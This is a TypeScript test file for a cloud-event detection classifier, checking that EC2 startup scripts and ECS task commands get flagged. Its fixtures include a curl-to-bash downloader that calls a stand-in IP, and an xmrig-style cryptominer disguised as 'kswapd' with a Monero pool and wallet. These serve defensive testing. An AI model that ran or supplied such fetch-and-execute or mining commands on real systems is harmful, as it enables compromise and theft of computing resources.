import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CloudFacts, CoalEvent } from '../model/event.js';
import type { Signal } from '../model/signal.js';
import { cloudCommands } from './cloud.js';
import { createClassifier } from './index.js';
import { DEFAULT_RULE_DIRS } from './rules.js';
import { loadRules } from './sigma/index.js';
import { testIntel } from './test-events.js';

const classifyAll = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

function launch(cloud: Partial<CloudFacts>): CoalEvent {
  return {
    '@timestamp': '2026-11-20T03:05:00Z',
    event: { kind: 'event', category: ['configuration'], action: 'cloud-change', dataset: 'cloudtrail.RunInstances' },
    host: { name: 'aws:123456789012' },
    original: {},
    coalmine: {
      ts: Date.UTC(2026, 10, 20, 3, 5),
      format: 'cloudtrail',
      ref: { file: 'trail.json', line: 7 },
      cloud: { provider: 'aws', account: '123456789012', operation: 'RunInstances', ...cloud },
    },
  };
}

function signals(event: CoalEvent): Signal[] {
  const out: Signal[] = [];
  classifyAll(event, out);
  return out;
}

test("a launch's startup script is judged as the shell runs it: downloader piped to a shell, a miner with its pool and wallet", () => {
  const out = signals(
    launch({
      userData: `#!/bin/bash\ncurl -s http://203.0.113.9/x.sh | bash\n/opt/.cache/kswapd -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET}\n`,
    }),
  );
  assert.ok(
    out.some((s) => s.kind === 'dropper'),
    out.map((s) => s.kind).join(),
  );
  assert.ok(
    out.some((s) => s.kind === 'miner-process' && /startup script \(userData\) of RunInstances/.test(s.explanation)),
  );
  for (const s of out) assert.equal(s.entity, 'account:aws:123456789012');
});

test('an ordinary startup script and a task running a web server say nothing', () => {
  const quiet = launch({
    userData:
      '#!/bin/bash\nyum install -y nginx\nsystemctl enable --now nginx\ncurl -fsSL -o /tmp/app.tar.gz https://example.com/app.tar.gz\n',
    containers: [{ name: 'web', image: 'nginx:1.25', command: ['nginx', '-g', 'daemon off;'] }],
  });
  assert.deepEqual(
    signals(quiet).map((s) => s.kind),
    [],
  );
});

test('task containers are commands too; hostile sizes are bounded', () => {
  const cmds = cloudCommands(
    launch({
      operation: 'RegisterTaskDefinition',
      containers: [
        { name: 'x', command: ['/bin/xmrig', '-o', 'pool.supportxmr.com:443', '-u', WALLET], args: ['--tls'] },
      ],
      userData: 'x'.repeat(100_000),
    }),
  );
  assert.equal(cmds.length, 2);
  assert.equal(cmds[0].words[2].length, 4096);
  assert.deepEqual(cmds[1].words.slice(0, 2), ['/bin/xmrig', '-o']);
  assert.deepEqual(cloudCommands({ ...launch({}), event: { ...launch({}).event, action: 'connect' } }), []);
});
